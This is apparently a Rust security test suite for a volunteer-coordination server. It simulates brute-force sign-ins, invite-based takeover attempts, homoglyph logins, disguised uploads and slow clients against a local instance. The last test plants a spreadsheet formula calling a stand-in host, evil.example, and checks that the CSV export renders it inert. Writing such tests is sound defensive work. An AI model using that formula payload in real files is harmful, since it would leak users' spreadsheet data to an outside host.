//! The server under attack, over real HTTP on 127.0.0.1 against a real SQLite file: sign-in
//! floods and guessing with many requests in flight at once, accounts taken through invites,
//! concurrent writers, look-alike logins, files that are not photos, refusals outside the
//! envelope, slow clients, caching of personal answers, and changing and recovering a
//! password. Each test was written against the defect it names before it was fixed.

use std::collections::BTreeMap;
use std::net::IpAddr;
use std::time::Duration;

use crate::util::{
    ADMIN, PASSWORD, TestApp, change, city_with_admin, join, mutation, now_ms, record,
    subbotnik_values,
};
use dvor_core::account::SignedIn;
use futures_util::future::join_all;
use reqwest::StatusCode;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// A device's key, as the web app keeps it.
const PHONE_KEY: &str = "5a1e5a1e5a1e5a1e5a1e5a1e5a1e5a1e5a1e5a1e5a1e5a1e5a1e5a1e5a1e5a1e";

async fn city() -> (TestApp, String, tempfile::TempDir) {
    city_with_admin(json!([
        {"name": "Рудничный", "committees": ["Забойщик"], "centres": ["ЦРН Рудничный"]}
    ]))
    .await
}

/// A client whose requests leave from `address` (any of 127.0.0.0/8).
fn client_from(address: IpAddr) -> reqwest::Client {
    reqwest::Client::builder()
        .local_address(address)
        .build()
        .expect("a client")
}

fn loopback(n: u16) -> IpAddr {
    let [hi, lo] = n.to_be_bytes();
    IpAddr::from([127, 0, hi, lo])
}

/// POSTs `body` to `/api/v1{path}` and reads the answer.
async fn post(
    client: &reqwest::Client,
    app: &TestApp,
    path: &str,
    token: Option<&str>,
    body: Value,
) -> (StatusCode, reqwest::header::HeaderMap, Value) {
    let mut request = client.post(app.url(&format!("/api/v1{path}"))).json(&body);
    if let Some(token) = token {
        request = request.bearer_auth(token);
    }
    let response = request.send().await.expect("answered");
    let status = response.status();
    let headers = response.headers().clone();
    (
        status,
        headers,
        response.json().await.unwrap_or(Value::Null),
    )
}

/// A sign-in from `client` with `body`.
async fn sign_in_from(
    client: &reqwest::Client,
    app: &TestApp,
    body: Value,
) -> (StatusCode, reqwest::header::HeaderMap, Value) {
    post(client, app, "/auth/login", None, body).await
}

fn code(body: &Value) -> &str {
    body["error"]["code"].as_str().unwrap_or_default()
}

/// How many answers have each status.
fn tally(answers: &[(StatusCode, reqwest::header::HeaderMap, Value)]) -> BTreeMap<u16, usize> {
    let mut counts = BTreeMap::new();
    for (status, headers, body) in answers {
        *counts.entry(status.as_u16()).or_default() += 1;
        assert!(
            body["error"]["message"].is_string() || status.is_success(),
            "{body}"
        );
        if matches!(status.as_u16(), 429 | 503) {
            assert!(
                headers.contains_key("retry-after"),
                "{status} without Retry-After"
            );
        }
    }
    counts
}

async fn wrong_sign_ins(
    app: &TestApp,
    clients: &[reqwest::Client],
    logins: &[String],
) -> BTreeMap<u16, usize> {
    let attempts = clients.iter().zip(logins).map(|(client, login)| {
        sign_in_from(
            client,
            app,
            json!({"login": login, "password": "не тот пароль"}),
        )
    });
    tally(&join_all(attempts).await)
}

#[tokio::test]
async fn a_burst_of_wrong_sign_ins_from_one_address_is_checked_no_more_than_the_limit() {
    let (app, _admin, _temp) = city().await;
    let clients = vec![app.client.clone(); 64];
    let logins: Vec<String> = (0..64).map(|i| format!("guess{i}@mail.ru")).collect();
    let counts = wrong_sign_ins(&app, &clients, &logins).await;
    let checked = counts.get(&401).copied().unwrap_or_default();
    assert!(
        checked <= 20,
        "{counts:?}: at most 20 checked for one address"
    );
    assert_eq!(counts.values().sum::<usize>(), 64, "{counts:?}");
    assert!(
        counts.keys().all(|s| matches!(s, 401 | 429 | 503)),
        "{counts:?}"
    );
}

#[tokio::test]
async fn a_burst_at_one_account_from_twenty_addresses_is_checked_five_times() {
    let (app, _admin, _temp) = city().await;
    let clients: Vec<_> = (0..20).map(|i| client_from(loopback(256 + i))).collect();
    let logins = vec![ADMIN.to_owned(); 20];
    let counts = wrong_sign_ins(&app, &clients, &logins).await;
    assert!(
        counts.get(&401).copied().unwrap_or_default() <= 5,
        "{counts:?}"
    );
    assert_eq!(
        counts.get(&401).copied().unwrap_or_default()
            + counts.get(&503).copied().unwrap_or_default()
            + counts.get(&429).copied().unwrap_or_default(),
        20,
        "{counts:?}"
    );
}

#[tokio::test]
async fn past_the_hashers_queue_sign_ins_are_refused_before_any_hashing() {
    let (app, _admin, _temp) = city().await;
    // Three hundred addresses, each within its own budget: only the hasher's bound holds.
    let clients: Vec<_> = (0..300).map(|i| client_from(loopback(1024 + i))).collect();
    let logins: Vec<String> = (0..300).map(|i| format!("flood{i}@mail.ru")).collect();
    let counts = wrong_sign_ins(&app, &clients, &logins).await;
    assert!(
        counts.get(&503).copied().unwrap_or_default() > 0,
        "{counts:?}"
    );
    assert!(counts.keys().all(|s| matches!(s, 401 | 503)), "{counts:?}");
}

#[tokio::test]
async fn a_stranger_guessing_cannot_lock_a_person_out_of_their_own_phone() {
    let (app, _admin, _temp) = city().await;
    let phone = client_from(loopback(300));
    let (status, ..) = sign_in_from(
        &phone,
        &app,
        json!({"login": ADMIN, "password": PASSWORD, "device_key": PHONE_KEY}),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "signed in on the phone once");
    let stranger = client_from(loopback(301));
    let mut refused = None;
    for _ in 0..8 {
        let (status, headers, body) = sign_in_from(
            &stranger,
            &app,
            json!({"login": ADMIN, "password": "подбираю пароль"}),
        )
        .await;
        if status == StatusCode::TOO_MANY_REQUESTS {
            refused = Some((headers, body));
            break;
        }
        assert_eq!(status, StatusCode::UNAUTHORIZED);
    }
    let (headers, body) = refused.expect("the stranger is slowed down after five");
    assert_eq!(code(&body), "too_many_attempts");
    let wait: u64 = headers["retry-after"]
        .to_str()
        .expect("text")
        .parse()
        .expect("seconds");
    assert!(
        (1..=15).contains(&wait),
        "the first delay is short: {wait} s"
    );
    // Even the right password waits on a device the account does not know …
    let new_phone = client_from(loopback(302));
    let (status, ..) = sign_in_from(
        &new_phone,
        &app,
        json!({"login": ADMIN, "password": PASSWORD}),
    )
    .await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
    // … but the person's own phone gets in at once.
    let (status, _, body) = sign_in_from(
        &phone,
        &app,
        json!({"login": ADMIN, "password": PASSWORD, "device_key": PHONE_KEY}),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    // A key the account never signed in with is a stranger's.
    let (status, ..) = post(
        &stranger,
        &app,
        "/auth/login",
        None,
        json!({"login": ADMIN, "password": PASSWORD, "device_key": "ab".repeat(32)}),
    )
    .await;
    assert_eq!(
        status,
        StatusCode::OK,
        "the success on the phone forgot the failures"
    );
}

async fn invite(app: &TestApp, admin: &str, uses: u32) -> String {
    let (status, _, body) = post(
        &app.client,
        app,
        "/invites",
        Some(admin),
        json!({"grant": {"role": "volunteer", "scope": {"committee": 1}}, "uses": uses, "days": 1}),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    body["code"].as_str().expect("a code").to_owned()
}

#[tokio::test]
async fn joining_cannot_take_over_an_account_nor_list_logins() {
    let (app, admin, _temp) = city().await;
    let code = invite(&app, &admin, 50).await;
    let attacker = client_from(loopback(400));
    // Without a valid invite nothing is learnt of a login.
    let (status, _, body) = post(&attacker, &app, "/invites/join", None,
        json!({"consent": true, "code": "0000-0000-0000", "name": "Взломщик", "login": ADMIN, "password": "подбираю пароль"})).await;
    assert_eq!(
        (status, code_of(&body)),
        (StatusCode::NOT_FOUND, "invite_invalid".to_owned())
    );
    // With one, each wrong password for a taken login costs the code and the account.
    let mut statuses = Vec::new();
    for i in 0..7 {
        let (status, ..) = post(&attacker, &app, "/invites/join", None,
            json!({"consent": true, "code": code, "name": "Взломщик", "login": ADMIN, "password": format!("подбираю пароль {i}")})).await;
        statuses.push(status.as_u16());
    }
    assert_eq!(&statuses[..4], [409; 4], "{statuses:?}");
    assert_eq!(statuses[6], 429, "{statuses:?}");
    // The account is braked for join as for sign-in: the right password waits too.
    let other = client_from(loopback(401));
    let other_code = invite(&app, &admin, 1).await;
    let (status, _, body) = post(
        &other,
        &app,
        "/invites/join",
        None,
        json!({"consent": true, "code": other_code, "name": "Взломщик", "login": ADMIN, "password": PASSWORD}),
    )
    .await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "{body}");
}

#[tokio::test]
async fn asking_what_invites_are_for_is_braked_like_joining() {
    let (app, admin, _temp) = city().await;
    let guesser = client_from(loopback(402));
    let mut last = StatusCode::OK;
    for i in 0..25 {
        (last, ..) = post(
            &guesser,
            &app,
            "/invites/preview",
            None,
            json!({"code": format!("AAAA-AAAA-{i:04}")}),
        )
        .await;
    }
    assert_eq!(last, StatusCode::TOO_MANY_REQUESTS);
    // Someone else, with a real invite, is not held up by the guesser.
    let code = invite(&app, &admin, 1).await;
    let (status, _, body) = post(
        &client_from(loopback(403)),
        &app,
        "/invites/preview",
        None,
        json!({"code": code}),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
}

/// A person joining committee 1 as `role` by an invite the admin makes, signed in.
async fn member(app: &TestApp, admin: &str, role: &str, login: &str) -> SignedIn {
    join(
        app,
        admin,
        json!({"role": role, "scope": {"committee": 1}}),
        login,
    )
    .await
}

fn code_of(body: &Value) -> String {
    code(body).to_owned()
}

#[tokio::test]
async fn concurrent_admin_writes_never_answer_500() {
    let (app, admin, _temp) = city().await;
    let writes = (0..16).map(|i| {
        let (path, body) = if i % 2 == 0 {
            (
                "/reference/committees",
                json!({"district": 1, "name": format!("Комитет {i}")}),
            )
        } else {
            (
                "/reference/districts",
                json!({"name": format!("Район {i}")}),
            )
        };
        post(&app.client, &app, path, Some(&admin), body)
    });
    let answers = join_all(writes).await;
    let counts = tally(&answers);
    assert_eq!(counts.get(&201).copied(), Some(16), "{counts:?}");
    // And the same names again at once: each refused as taken, none failing.
    let again = (0..16).map(|_| {
        post(
            &app.client,
            &app,
            "/reference/committees",
            Some(&admin),
            json!({"district": 1, "name": "Один и тот же"}),
        )
    });
    let counts = tally(&join_all(again).await);
    assert_eq!(counts.get(&201).copied(), Some(1), "{counts:?}");
    assert_eq!(counts.get(&409).copied(), Some(15), "{counts:?}");
}

#[tokio::test]
async fn look_alike_logins_cannot_join() {
    let (app, admin, _temp) = city().await;
    let invite_code = invite(&app, &admin, 10).await;
    for (login, expected) in [
        ("аdmin@example.ru", "mixed_scripts"),
        ("admin@exаmple.ru", "mixed_scripts"),
        ("ad\u{200B}min@example.ru", "invalid_login"),
        ("admin\u{2060}@example.ru", "invalid_login"),
    ] {
        let (status, _, body) = post(&app.client, &app, "/invites/join", None,
            json!({"consent": true, "code": invite_code, "name": "Двойник", "login": login, "password": "совсем другой пароль"})).await;
        assert_eq!(
            (status, code(&body)),
            (StatusCode::UNPROCESSABLE_ENTITY, expected),
            "{login:?}"
        );
    }
    // Typed in full-width forms, it is the admin's own login.
    let (status, _, body) = sign_in_from(
        &app.client,
        &app,
        json!({"login": "ＡＤＭＩＮ＠example.ru", "password": PASSWORD}),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
}

#[tokio::test]
async fn a_riff_file_that_is_not_a_webp_is_refused() {
    let (app, admin, _temp) = city().await;
    let mut wave = b"RIFF".to_vec();
    wave.extend_from_slice(&28u32.to_le_bytes());
    wave.extend_from_slice(
        b"WAVEfmt \x10\x00\x00\x00\x01\x00\x01\x00\x44\xac\x00\x00\x88\x58\x01\x00\x02\x00\x10\x00",
    );
    use sha2::Digest;
    let hash = hex::encode(sha2::Sha256::digest(&wave));
    let response = app
        .client
        .put(app.url(&format!("/api/v1/blobs/{hash}")))
        .bearer_auth(&admin)
        .header("content-type", "image/webp")
        .body(wave)
        .send()
        .await
        .expect("answered");
    assert_eq!(response.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
    let body: Value = response.json().await.expect("the envelope");
    assert_eq!(code(&body), "unsupported_image");
}

#[tokio::test]
async fn every_refusal_is_in_the_envelope_and_personal_answers_are_not_stored() {
    let (app, admin, _temp) = city().await;
    for (method, path) in [
        ("GET", "/api/v1/blobs/%FF%FE"),
        ("GET", "/api/v1/export/%FF.csv"),
        ("GET", "/api/v1/tiles/1/%FF/2"),
        ("GET", "/api/v1/tiles/a/b/c"),
        ("DELETE", "/api/v1/auth/login"),
        ("PUT", "/api/v1/sync/push"),
        ("GET", "/api/v1/nowhere"),
    ] {
        let response = app
            .client
            .request(method.parse().expect("a method"), app.url(path))
            .bearer_auth(&admin)
            .send()
            .await
            .expect("answered");
        let status = response.status();
        assert!(status.is_client_error(), "{method} {path}: {status}");
        assert_eq!(
            response.headers()["content-type"],
            "application/json",
            "{method} {path}"
        );
        let body: Value = response.json().await.expect("JSON");
        assert!(
            body["error"]["message"]
                .as_str()
                .is_some_and(|m| !m.is_empty()),
            "{method} {path}: {body}"
        );
    }
    for path in [
        "/api/v1/auth/me",
        "/api/v1/auth/sessions",
        "/api/v1/sync/pull?after=0",
        "/api/v1/reference",
    ] {
        let response = app
            .client
            .get(app.url(path))
            .bearer_auth(&admin)
            .header(
                dvor_core::protocol::PROTOCOL_HEADER,
                dvor_core::protocol::PROTOCOL_VERSION.to_string(),
            )
            .send()
            .await
            .expect("answered");
        assert_eq!(response.status(), StatusCode::OK, "{path}");
        assert_eq!(response.headers()["cache-control"], "no-store", "{path}");
    }
}

/// Every operation of the OpenAPI document, probed with the refusals any client can meet,
/// answers in the envelope with a status the document lists for it.
#[tokio::test]
async fn every_status_a_route_answers_is_in_the_document() {
    let (app, admin, _temp) = city().await;
    let document: Value = app
        .client
        .get(app.url("/api/v1/openapi.json"))
        .send()
        .await
        .expect("answered")
        .json()
        .await
        .expect("JSON");
    let mut probed = 0;
    for (path, item) in document["paths"].as_object().expect("paths") {
        for (method, operation) in item.as_object().expect("an item") {
            let concrete = path
                .replace("{hash}", &"a".repeat(64))
                .replace("{file}", "activities.csv")
                .replace("{z}", "1")
                .replace("{x}", "1")
                .replace("{y}", "1");
            let url = app.url(&format!("/api/v1{concrete}"));
            let method: reqwest::Method = method.to_uppercase().parse().expect("a method");
            let secured = operation["security"]
                .as_array()
                .is_some_and(|s| !s.is_empty());
            let with_body = operation.get("requestBody").is_some();
            let mut probes = vec![app.client.request(method.clone(), &url)];
            if secured {
                probes.push(
                    app.client
                        .request(method.clone(), &url)
                        .bearer_auth("not-a-session"),
                );
            }
            if with_body {
                probes.push(
                    app.client
                        .request(method.clone(), &url)
                        .bearer_auth(&admin)
                        .header("content-type", "text/plain")
                        .body("x"),
                );
                probes.push(
                    app.client
                        .request(method.clone(), &url)
                        .bearer_auth(&admin)
                        .header("content-type", "application/json")
                        .body("{"),
                );
                probes.push(
                    app.client
                        .request(method.clone(), &url)
                        .bearer_auth(&admin)
                        .header("content-type", "application/json")
                        .body("{}"),
                );
            }
            for probe in probes {
                let response = probe.send().await.expect("answered");
                let status = response.status().as_u16().to_string();
                let documented = operation["responses"].get(&status).is_some();
                let is_json = response
                    .headers()
                    .get("content-type")
                    .is_some_and(|v| v == "application/json");
                assert!(
                    documented,
                    "{method} {path} answered {status}, which its document does not list"
                );
                if !response.status().is_success() {
                    assert!(
                        is_json,
                        "{method} {path} refused {status} outside the envelope"
                    );
                }
                probed += 1;
            }
        }
    }
    assert!(probed > 40, "{probed}");
}

async fn read_until_closed(stream: &mut TcpStream, within: Duration) -> Option<String> {
    let mut answer = Vec::new();
    let mut buffer = [0u8; 4096];
    let read = tokio::time::timeout(within, async {
        loop {
            match stream.read(&mut buffer).await {
                Ok(0) | Err(_) => break,
                Ok(n) => answer.extend_from_slice(&buffer[..n]),
            }
        }
    })
    .await;
    read.ok()
        .map(|()| String::from_utf8_lossy(&answer).into_owned())
}

#[tokio::test]
async fn slow_and_silent_clients_are_cut_off() {
    let app = TestApp::start_configured(|config| {
        config.header_timeout_secs = 1;
        config.body_timeout_secs = 1;
    })
    .await;
    // Headers a byte at a time, then nothing: the connection is closed.
    let mut slow = TcpStream::connect(app.addr).await.expect("connected");
    slow.write_all(b"GET /api/v1/health HTTP/1.1\r\nHo")
        .await
        .expect("sent");
    assert!(
        read_until_closed(&mut slow, Duration::from_secs(5))
            .await
            .is_some(),
        "closed within the header timeout"
    );
    // A body declared at a gigabyte is refused before a byte of it is read.
    let mut huge = TcpStream::connect(app.addr).await.expect("connected");
    huge.write_all(b"POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1073741824\r\n\r\n").await.expect("sent");
    let mut head = [0u8; 512];
    let n = tokio::time::timeout(Duration::from_secs(3), huge.read(&mut head))
        .await
        .expect("answered at once")
        .expect("read");
    let head = String::from_utf8_lossy(&head[..n]);
    assert!(head.starts_with("HTTP/1.1 413"), "{head}");
    assert!(
        head.to_lowercase()
            .contains("content-type: application/json"),
        "{head}"
    );
    // A body that stops half way is answered 408.
    let mut stalled = TcpStream::connect(app.addr).await.expect("connected");
    stalled.write_all(b"POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"login\":").await.expect("sent");
    let answer = read_until_closed(&mut stalled, Duration::from_secs(5))
        .await
        .expect("answered and closed");
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert!(answer.contains("request_timeout"), "{answer}");
}

#[tokio::test]
async fn a_person_changes_their_password_and_their_other_sessions_end() {
    let (app, admin, _temp) = city().await;
    let person = member(&app, &admin, "volunteer", "anna@mail.ru").await;
    let (_, _, other) = sign_in_from(
        &app.client,
        &app,
        json!({"login": "anna@mail.ru", "password": PASSWORD}),
    )
    .await;
    let other = other["token"]
        .as_str()
        .expect("a second session")
        .to_owned();
    let change =
        |current: &str, new: &str| json!({"current_password": current, "new_password": new});
    let (status, _, body) = post(
        &app.client,
        &app,
        "/auth/password",
        Some(&person.token),
        change("не тот пароль", "новый длинный пароль"),
    )
    .await;
    assert_eq!(
        (status, code(&body)),
        (StatusCode::UNPROCESSABLE_ENTITY, "wrong_password")
    );
    let (status, _, body) = post(
        &app.client,
        &app,
        "/auth/password",
        Some(&person.token),
        change(PASSWORD, "короткий"),
    )
    .await;
    assert_eq!(
        (status, code(&body)),
        (StatusCode::UNPROCESSABLE_ENTITY, "password_too_short")
    );
    let (status, ..) = post(
        &app.client,
        &app,
        "/auth/password",
        Some(&person.token),
        change(PASSWORD, "новый длинный пароль"),
    )
    .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let me = |token: String| {
        let app = &app;
        async move {
            app.client
                .get(app.url("/api/v1/auth/me"))
                .bearer_auth(token)
                .send()
                .await
                .expect("answered")
                .status()
        }
    };
    assert_eq!(
        me(person.token.clone()).await,
        StatusCode::OK,
        "the session that changed it stays"
    );
    assert_eq!(me(other).await, StatusCode::UNAUTHORIZED, "the others end");
    let (status, ..) = sign_in_from(
        &app.client,
        &app,
        json!({"login": "anna@mail.ru", "password": PASSWORD}),
    )
    .await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    let (status, ..) = sign_in_from(
        &app.client,
        &app,
        json!({"login": "anna@mail.ru", "password": "новый длинный пароль"}),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
}

#[tokio::test]
async fn a_chair_issues_a_reset_code_for_their_volunteer_only_and_it_works_once() {
    let (app, admin, _temp) = city().await;
    let chair = member(&app, &admin, "chair", "chair@mail.ru").await;
    let volunteer = member(&app, &admin, "volunteer", "anna@mail.ru").await;
    for (token, login, expected) in [
        (&chair.token, ADMIN, StatusCode::FORBIDDEN),
        (&chair.token, "nobody@mail.ru", StatusCode::FORBIDDEN),
        (&volunteer.token, "chair@mail.ru", StatusCode::FORBIDDEN),
        (&chair.token, "anna@mail.ru", StatusCode::CREATED),
    ] {
        let (status, _, body) = post(
            &app.client,
            &app,
            "/auth/reset-codes",
            Some(token),
            json!({"login": login}),
        )
        .await;
        assert_eq!(status, expected, "{login}: {body}");
    }
    let (_, _, issued) = post(
        &app.client,
        &app,
        "/auth/reset-codes",
        Some(&chair.token),
        json!({"login": "anna@mail.ru"}),
    )
    .await;
    let code_text = issued["code"].as_str().expect("a code").to_owned();
    let reset = |login: &str, code: &str| json!({"code": code, "login": login, "new_password": "пароль после сброса"});
    let (status, _, body) = post(
        &app.client,
        &app,
        "/auth/reset",
        None,
        reset("chair@mail.ru", &code_text),
    )
    .await;
    assert_eq!(
        (status, code(&body)),
        (StatusCode::NOT_FOUND, "reset_code_invalid"),
        "another's login"
    );
    let (status, _, body) = post(
        &app.client,
        &app,
        "/auth/reset",
        None,
        reset("anna@mail.ru", &code_text.to_lowercase()),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let signed: SignedIn = serde_json::from_value(body).expect("signed in");
    assert_eq!(signed.me.login, "anna@mail.ru");
    let status = app
        .client
        .get(app.url("/api/v1/auth/me"))
        .bearer_auth(&volunteer.token)
        .send()
        .await
        .expect("answered")
        .status();
    assert_eq!(
        status,
        StatusCode::UNAUTHORIZED,
        "sessions from before the reset end"
    );
    let (status, ..) = post(
        &app.client,
        &app,
        "/auth/reset",
        None,
        reset("anna@mail.ru", &code_text),
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND, "once only");
    // Guessing codes is braked like guessing passwords.
    let guesser = client_from(loopback(500));
    let mut last = StatusCode::OK;
    for i in 0..25 {
        (last, ..) = post(
            &guesser,
            &app,
            "/auth/reset",
            None,
            reset("anna@mail.ru", &format!("AAAA-AAAA-{i:04}")),
        )
        .await;
    }
    assert_eq!(last, StatusCode::TOO_MANY_REQUESTS);
}

#[tokio::test]
async fn a_formula_a_volunteer_typed_is_exported_as_text() {
    let (mut app, admin, _temp) = city().await;
    app.token = Some(admin.clone());
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Двор\")";
    let mut values = subbotnik_values(7);
    values.insert("site_address".to_owned(), json!(formula));
    app.push_applied(&[mutation(
        1,
        1,
        change(record(1), 1, now_ms() - 1_000, 0, values, Some(false)),
    )])
    .await;
    let response = app
        .client
        .get(app.url("/api/v1/export/activities.csv?from=2024-01-01&to=2024-12-31"))
        .bearer_auth(&admin)
        .send()
        .await
        .expect("answered");
    assert_eq!(response.status(), StatusCode::OK);
    let text = response.text().await.expect("a file");
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|row| {
            row.expect("a row")
                .iter()
                .map(str::to_owned)
                .collect::<Vec<_>>()
        })
        .collect();
    assert!(cells.contains(&format!("'{formula}")), "{cells:?}");
    assert!(
        !cells.iter().any(|c| c.starts_with(['=', '+', '@'])),
        "{cells:?}"
    );
}
